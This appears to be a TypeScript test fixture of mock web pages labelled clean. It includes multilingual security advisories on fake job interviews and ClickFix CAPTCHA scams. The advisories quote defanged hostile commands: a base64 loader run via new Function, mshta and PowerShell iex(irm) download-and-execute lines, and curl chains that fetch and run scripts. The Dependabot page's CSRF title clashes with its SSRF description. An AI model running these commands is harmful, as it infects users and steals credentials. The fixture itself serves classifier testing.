// Clean: advisories and blog posts quoting malicious commands, help articles, status, bounty and careers pages (author zz).
import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, qwDoc, QW_TOP, QW_MARK, GH_CSS, GH_MARK, GH_FOOT, FONT, esc } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-security-blog-fake-interview-de',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://blog.sicherheitswerk-consulting.de/2025/10/contagious-interview-entwickler-im-visier',
  body: doc({
    lang: 'de',
    title: 'Contagious Interview: Wie gefälschte Bewerbungsgespräche Entwickler kompromittieren – Sicherheitswerk Blog',
    head: `<style>body{margin:0;font-family:Merriweather,Georgia,serif;background:#fff;color:#222;line-height:1.75}.h{border-bottom:3px solid #b91c1c;padding:16px 40px;font:700 20px ${FONT}}
article{max-width:740px;margin:30px auto;padding:0 20px}pre{background:#f3f4f6;border-left:4px solid #b91c1c;padding:12px;font-size:13px;overflow:auto;white-space:pre-wrap}.m{color:#666;font:14px ${FONT}}</style>`,
    body: `<div class="h">Sicherheitswerk <span style="font-weight:400;color:#666">Blog</span></div><article>
<h1>Contagious Interview: Wie gefälschte Bewerbungsgespräche Entwickler kompromittieren</h1><p class="m">14. Oktober 2025 · Dr. Jana Vogt, Incident Response</p>
<p>In drei Incident-Response-Fällen der letzten Wochen begann die Kompromittierung mit einem scheinbar harmlosen Jobangebot. Die Angreifer geben sich als Recruiter von Krypto- oder Fintech-Firmen aus und schicken eine „Take-Home-Aufgabe“ als ZIP-Archiv oder Git-Repository.</p>
<h2>Ablauf</h2><p>Das Projekt sieht auf den ersten Blick normal aus (Next.js, Express, ethers). Der Schadcode versteckt sich in einem npm-Lifecycle-Skript, das bereits bei <code>npm install</code> ausgeführt wird:</p>
<pre>${esc(`"scripts": {
  "prepare": "node server/config/setup.js",
  "start": "node server/index.js"
}`)}</pre>
<p>Die Datei <code>setup.js</code> lädt die zweite Stufe nach und führt sie mit <code>new Function</code> aus:</p>
<pre>${esc(`const b='aHR0cDovLzE3Mi44Ni43NC4xOToxMjQ0L2FwaS9zZXJ2aWNl';   // http://172.86.74[.]19:1244/api/service
const r = await axios.get(Buffer.from(b,'base64').toString() + '/' + os.platform());
new Function('require', r.data)(require);`)}</pre>
<p>Die zweite Stufe (BeaverTail) sammelt Browser-Profile, Krypto-Wallets und Schlüsselbund-Dateien und lädt anschließend eine Python-Hintertür (InvisibleFerret) nach.</p>
<h2>Empfehlungen</h2><ul><li>Fremden Code aus Bewerbungsprozessen nur in einer Wegwerf-VM oder einem Container ohne Zugangsdaten ausführen.</li><li><code>npm install --ignore-scripts</code> verwenden und <code>package.json</code> vorher prüfen.</li><li>Unternehmen: Entwickler-Endpoints mit EDR überwachen, ausgehende Verbindungen zu ungewöhnlichen Ports (z. B. 1244, 1224) alarmieren.</li></ul>
<p class="m">Sie vermuten einen Vorfall? Unser IR-Team ist 24/7 erreichbar: +49 89 2155 3900.</p></article>`,
  }),
},

{
  id: 'zz-jpcert-style-fake-captcha-ja',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://blogs.jpcert.or.jp/ja/2025/10/clickfix.html',
  body: doc({
    lang: 'ja',
    title: '偽のCAPTCHA認証を悪用した攻撃(ClickFix)について - JPCERT/CC Eyes | JPCERTコーディネーションセンター公式ブログ',
    head: `<style>body{margin:0;font-family:"Hiragino Kaku Gothic ProN","Noto Sans JP",Meiryo,sans-serif;color:#333;background:#fff;line-height:1.9}
.h{background:#003b7c;color:#fff;padding:14px 40px;font-weight:700}article{max-width:780px;margin:30px auto;padding:0 20px}pre{background:#f4f4f4;padding:12px;font-size:13px;white-space:pre-wrap;word-break:break-all}
.d{color:#777;font-size:14px}</style>`,
    body: `<div class="h">JPCERT/CC Eyes</div><article><h1>偽のCAPTCHA認証を悪用した攻撃(ClickFix)について</h1><p class="d">2025年10月10日 · インシデントレスポンスグループ</p>
<p>2025年に入り、正規のWebサイトを改ざんして偽の CAPTCHA 認証画面を表示し、利用者自身にコマンドを実行させる攻撃(ClickFix)の相談が国内で増加しています。本記事では手口と対策を紹介します。</p>
<h2>攻撃の流れ</h2><p>改ざんされたサイトにアクセスすると「私はロボットではありません」というチェックボックスが表示されます。クリックすると、JavaScript によって次のようなコマンドがクリップボードに書き込まれます。</p>
<pre>${esc(`mshta hxxps://cdn-verify-human[.]com/v/7419.hta # ✅ ''I am not a robot - reCAPTCHA Verification ID: 7419''`)}</pre>
<p>その後、画面には「Windows キー + R を押す」「Ctrl + V を押す」「Enter を押す」という手順が表示され、利用者がこれに従うと HTA ファイルが実行され、情報窃取型マルウェア(Lumma Stealer など)に感染します。</p>
<p>別の事例では、次の PowerShell コマンドが使われていました。</p><pre>${esc(`powershell -w h -c "$u='hxxps://tutoriais-devops[.]com[.]br/wp-includes/js/jquery/ui/core.min.php';iex(irm $u)"`)}</pre>
<h2>対策</h2><ul><li>Web サイトの指示でコマンドを「ファイル名を指定して実行」や PowerShell に貼り付けないでください。</li><li>組織では、グループポリシーで「ファイル名を指定して実行」メニューを無効化することを検討してください。</li><li>被害が疑われる場合は、JPCERT/CC のインシデント報告窓口へご連絡ください。</li></ul></article>`,
  }),
},

{
  id: 'zz-cert-pl-fake-job-offers-pl',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://cert.pl/posts/2025/10/falszywe-oferty-pracy-dla-programistow/',
  body: doc({
    lang: 'pl',
    title: 'Fałszywe oferty pracy dla programistów – CERT Polska',
    head: `<style>body{margin:0;font-family:Lato,${FONT};color:#222;background:#fff;line-height:1.75}.h{background:#c8102e;color:#fff;padding:14px 40px;font-weight:700}
article{max-width:780px;margin:30px auto;padding:0 20px}pre{background:#f2f2f2;padding:12px;font-size:13px;white-space:pre-wrap}.d{color:#666;font-size:14px}</style>`,
    body: `<div class="h">CERT Polska</div><article><h1>Fałszywe oferty pracy dla programistów</h1><p class="d">17 października 2025</p>
<p>Otrzymujemy coraz więcej zgłoszeń od programistów, którzy w trakcie rekrutacji zostali poproszeni o uruchomienie projektu lub „naprawę kamery” przed rozmową wideo. W obu przypadkach celem jest zainfekowanie komputera złośliwym oprogramowaniem kradnącym dane.</p>
<h2>Scenariusz 1: zadanie rekrutacyjne</h2><p>Kandydat dostaje archiwum ZIP z projektem. Polecenie <code>npm install</code> uruchamia skrypt <code>prepare</code>, który pobiera i wykonuje kod z serwera przestępców.</p>
<h2>Scenariusz 2: „problem z kamerą”</h2><p>Strona z rzekomą rozmową wideo wyświetla komunikat o błędzie kamery i podaje polecenie do wklejenia w terminalu, np.:</p>
<pre>${esc(`curl -k -o /var/tmp/camdrv.sh hxxps://hire-meet-interview[.]com/drv/mac/update.sh && chmod +x /var/tmp/camdrv.sh && nohup bash /var/tmp/camdrv.sh >/dev/null 2>&1 &`)}</pre>
<p>W systemie Windows polecenie ma postać:</p>
<pre>${esc(`cmd /c "curl -k -o %TEMP%\\nvdrv.zip hxxps://hire-meet-interview[.]com/drv/win/nvidiadrv.zip && powershell -Command Expand-Archive -Force -Path %TEMP%\\nvdrv.zip -DestinationPath %TEMP%\\nvdrv && wscript %TEMP%\\nvdrv\\update.vbs"`)}</pre>
<h2>Jak się chronić?</h2><ul><li>Nigdy nie wklejaj poleceń z nieznanych stron do terminala ani okna „Uruchom”.</li><li>Uruchamiaj kod z rekrutacji wyłącznie w izolowanym środowisku.</li><li>Podejrzane strony zgłaszaj przez <a href="https://incydent.cert.pl">incydent.cert.pl</a>.</li></ul></article>`,
  }),
},

{
  id: 'zz-quellwerk-status-incident-page',
  label: 'clean',
  kind: 'status-page',
  url: 'https://status.quellwerk.io/incidents/k9t2mxw4qz7b',
  body: doc({
    title: 'Quellwerk Status - Degraded performance of Pipelines for Windows runners',
    head: `<style>body{margin:0;font-family:${FONT};background:#fff;color:#333}.h{max-width:820px;margin:30px auto;display:flex;justify-content:space-between;align-items:center;padding:0 20px}
.c{max-width:820px;margin:0 auto;padding:0 20px}.up{border-left:3px solid #e0e0e0;padding:4px 0 4px 18px;margin:22px 0}.up b{display:inline-block;width:110px}.up small{display:block;color:#888;margin-top:4px}
.sub{background:#0f5c4d;color:#fff;border:0;border-radius:4px;padding:8px 14px}.aff{color:#888;font-size:14px}</style>`,
    body: `<div class="h"><span style="display:flex;gap:8px;align-items:center">${QW_MARK}<b>Quellwerk</b></span><button class="sub">Subscribe to updates</button></div>
<div class="c"><h1 style="font-size:26px;color:#e8740c">Degraded performance of Pipelines for Windows runners</h1><p class="aff">Incident Report for Quellwerk</p>
<div class="up"><b>Resolved</b>This incident has been resolved. Job queue times for hosted Windows runners are back to normal.<small>Oct 21, 2025 - 14:52 CEST</small></div>
<div class="up"><b>Monitoring</b>We rolled out a fix for the image cache and are monitoring queue times.<small>Oct 21, 2025 - 14:10 CEST</small></div>
<div class="up"><b>Identified</b>A cache misconfiguration after the Windows Server 2025 image rollout caused slow runner start-up. Self-hosted runners are not affected and no action is required from customers.<small>Oct 21, 2025 - 13:22 CEST</small></div>
<div class="up"><b>Investigating</b>We are investigating increased queue times for jobs on hosted Windows runners.<small>Oct 21, 2025 - 12:58 CEST</small></div>
<p class="aff">This incident affected: Pipelines (Hosted runners – Windows).</p><p style="font-size:13px"><a href="https://status.quellwerk.io/history">← Current status</a> · Powered by Atlassian Statuspage</p></div>`,
  }),
},

{
  id: 'zz-hackerone-quellwerk-program',
  label: 'clean',
  kind: 'bug-bounty-page',
  url: 'https://hackerone.com/quellwerk?type=team',
  body: doc({
    title: 'Quellwerk - Bug Bounty Program | HackerOne',
    head: `<style>body{margin:0;font-family:${FONT};background:#f6f6f6;color:#1b1b1b}.top{background:#000;color:#fff;padding:14px 32px;font-weight:700}
.hd{background:#fff;padding:28px 40px;display:flex;gap:18px;align-items:center;border-bottom:1px solid #e5e5e5}.c{max-width:980px;margin:24px auto;display:grid;grid-template-columns:2fr 1fr;gap:20px;padding:0 20px}
.bx{background:#fff;border-radius:6px;padding:20px 24px;border:1px solid #e5e5e5}table td,table th{padding:8px;border-bottom:1px solid #eee;font-size:14px;text-align:left}</style>`,
    body: `<div class="top">hackerone</div><div class="hd">${QW_MARK.replace(/32/g, '64')}<div><h1 style="margin:0">Quellwerk</h1><p style="margin:4px 0;color:#666">Managed · Bounty · Launched Mar 2022 · quellwerk.io</p></div></div>
<div class="c"><div class="bx"><h2>Policy</h2><p>We value the work of security researchers. Please test only against accounts you own, use your <code>@wearehackerone.com</code> alias when signing up, and never access data of other customers.</p>
<h3>Rewards</h3><table><tr><th>Severity</th><th>Core platform</th><th>Other assets</th></tr><tr><td>Critical</td><td>$12,000 – $25,000</td><td>$5,000</td></tr><tr><td>High</td><td>$4,000 – $8,000</td><td>$2,000</td></tr><tr><td>Medium</td><td>$1,000 – $2,500</td><td>$500</td></tr><tr><td>Low</td><td>$250</td><td>$100</td></tr></table>
<h3>Payouts</h3><p>All bounties are paid through HackerOne. Quellwerk will never ask you to pay a fee to receive a bounty, and our team never contacts researchers about payouts outside HackerOne.</p>
<h3>Out of scope</h3><ul><li>Denial-of-service and volumetric attacks</li><li>Social engineering of employees or customers</li><li>Reports from automated scanners without a working proof of concept</li></ul></div>
<div class="bx"><b>Program statistics</b><p>Reports resolved: 1,184<br>Bounties paid (90 days): $182,450<br>Average bounty: $1,350<br>Response efficiency: 97%</p><p><a href="https://hackerone.com/quellwerk/reports/new">Submit report</a></p></div></div>`,
  }),
},

{
  id: 'zz-quellwerk-security-disclosure-page',
  label: 'clean',
  kind: 'bug-bounty-page',
  url: 'https://quellwerk.io/security',
  body: qwDoc({
    title: 'Security at Quellwerk',
    main: `<div class="content"><article>
<h1 style="margin-top:28px">Security at Quellwerk</h1>
<p>Protecting your code is our job. This page explains how to report a vulnerability, how to check whether a message really came from us, and where to find our security advisories.</p>
<h2>Report a vulnerability</h2><p>Please report security issues through our <a href="https://hackerone.com/quellwerk">HackerOne program</a> or by email to <a href="mailto:security@quellwerk.io">security@quellwerk.io</a> (PGP key below). We respond within one business day.</p>
<pre><code>-----BEGIN PGP PUBLIC KEY BLOCK-----
mDMEZk3H1BYJKwYBBAHaRw8BAQdA6h0R2zJ8oO7m4XcP1bW9tQfV3nK0aL5yE2dS
tCBRdWVsbHdlcmsgU2VjdXJpdHkgPHNlY3VyaXR5QHF1ZWxsd2Vyay5pbz6IkwQT
FgoAOxYhBP1x9K3rN0cV8mE2aQ7dZ4uW5bT1BQJmTcfUAhsDBQsJCAcCAiICBhUK
=q8Xc
-----END PGP PUBLIC KEY BLOCK-----</code></pre>
<p>Our <a href="/.well-known/security.txt">security.txt</a> is machine-readable.</p>
<h2>Is this really Quellwerk?</h2><ul><li>We only send email from <code>@quellwerk.io</code> and <code>@notifications.quellwerk.io</code>.</li><li>We never ask for your password, 2FA codes or recovery codes, and never ask you to run commands to fix your account.</li><li>We never charge a fee to pay out a bug bounty.</li><li>Billing questions: <a href="/contact/billing">billing contacts</a>. We do not run a phone line for cancellations.</li></ul>
<h2>Advisories</h2><table><tr><th>ID</th><th>Title</th><th>Date</th></tr><tr><td>QWSA-2025-07</td><td>Token disclosure in Windows runner logs (fixed in 17.4.2, shipped automatically)</td><td>2025-10-15</td></tr><tr><td>QWSA-2025-06</td><td>Stored XSS in Markdown mermaid blocks</td><td>2025-09-02</td></tr></table>
</article></div>`,
  }),
  routes: { 'quellwerk.io/.well-known/security.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'Contact: mailto:security@quellwerk.io\nContact: https://hackerone.com/quellwerk\nExpires: 2026-06-30T00:00:00.000Z\nEncryption: https://quellwerk.io/security/pgp.asc\nPreferred-Languages: en, de\nPolicy: https://quellwerk.io/security\n' } },
},

{
  id: 'zz-quellwerk-careers-takehome-posting',
  label: 'clean',
  kind: 'careers-page',
  url: 'https://quellwerk.io/careers/senior-backend-engineer-pipelines',
  body: qwDoc({
    title: 'Senior Backend Engineer, Pipelines (Berlin or remote EU) · Careers at Quellwerk',
    main: `<div class="content"><article>
<p style="margin-top:24px;color:#5b6675">Engineering · Berlin or remote (EU time zones) · Full-time</p>
<h1>Senior Backend Engineer, Pipelines</h1>
<p>The Pipelines team runs 40 million CI jobs a month. You'll work on the scheduler, the runner protocol and the artifact store (Go, PostgreSQL, Kubernetes).</p>
<h2>What we offer</h2><ul><li>€85,000 – €110,000 + VSOP</li><li>30 days vacation, 4-day work week in August</li><li>€2,000 yearly learning budget</li><li>Laptop of your choice, shipped by us — you never pay for equipment</li></ul>
<h2>Our process</h2><ol><li>30-minute intro call with a recruiter</li><li>Take-home exercise (about 3 hours, paid €300): a small Go service. You'll receive it as a repository on quellwerk.io from an <code>@quellwerk.io</code> address. It has no install scripts and no dependencies outside the Go standard library; feel free to read everything before running it, or run it in a container.</li><li>Technical interview discussing your solution</li><li>Meet the team and a founder</li></ol>
<p style="background:#eef7f4;border-radius:8px;padding:12px 16px;font-size:14px">All our interviews happen on Google Meet links sent from <code>@quellwerk.io</code>. We will never ask you to install software, fix your camera with a terminal command or pay anything during the hiring process. If someone does, please tell us at <a href="mailto:security@quellwerk.io">security@quellwerk.io</a>.</p>
<p><a class="btn btn-primary" href="https://boards.greenhouse.io/quellwerk/jobs/7712044">Apply on Greenhouse</a></p>
</article></div>`,
  }),
},

{
  id: 'zz-github-dependabot-alert-page',
  label: 'clean',
  kind: 'repo-security-alert-own-domain',
  url: 'https://github.com/nordlicht/payments-api/security/dependabot/57',
  body: doc({
    title: 'Dependabot alert #57 · nordlicht/payments-api',
    head: `<style>${GH_CSS}.w{max-width:1012px;margin:24px auto;padding:0 16px}.hd{background:#fff;border-bottom:1px solid #d1d9e0;padding:16px 24px;display:flex;gap:12px;align-items:center}
.bx{background:#fff;border:1px solid #d1d9e0;border-radius:6px;padding:16px 20px;margin-top:16px}.st{display:inline-block;background:#1f883d;color:#fff;border-radius:2em;padding:2px 10px;font-size:12px}
.sev{display:inline-block;border:1px solid #cf222e;color:#cf222e;border-radius:2em;padding:0 8px;font-size:12px}pre{background:#f6f8fa;padding:10px;border-radius:6px;font-size:12px}</style>`,
    body: `<div class="hd">${GH_MARK.replace(/48/g, '32')}<span>nordlicht / <b>payments-api</b></span><span style="margin-left:auto;font-size:12px;color:#59636e">Private</span></div>
<div class="w"><h1 style="font-weight:400;font-size:24px">Axios Cross-Site Request Forgery Vulnerability <span style="color:#59636e">#57</span></h1>
<p><span class="st">Open</span> &nbsp; Opened 3 days ago on <b>axios</b> (npm) · <code>package-lock.json</code></p>
<div class="bx"><p><b>Dependabot opened a pull request to resolve this alert:</b> <a href="https://github.com/nordlicht/payments-api/pull/412">Bump axios from 1.7.2 to 1.7.4 #412</a></p></div>
<div class="bx"><p><span class="sev">High</span> &nbsp; CVE-2024-39338 · GHSA-8hc4-vh64-cxmj</p>
<p>axios 1.7.2 allows SSRF via unexpected behavior where requests for path relative URLs get processed as protocol relative URLs.</p>
<p>Patched version: <code>1.7.4</code></p><pre>npm install axios@1.7.4</pre></div>
<div class="bx"><p style="font-size:13px;color:#59636e">Dependabot alerts are only ever shown on github.com and in your notification settings. <a href="https://docs.github.com/code-security/dependabot/dependabot-alerts/about-dependabot-alerts">Learn more about Dependabot alerts</a>.</p></div></div>${GH_FOOT}`,
  }),
},
];
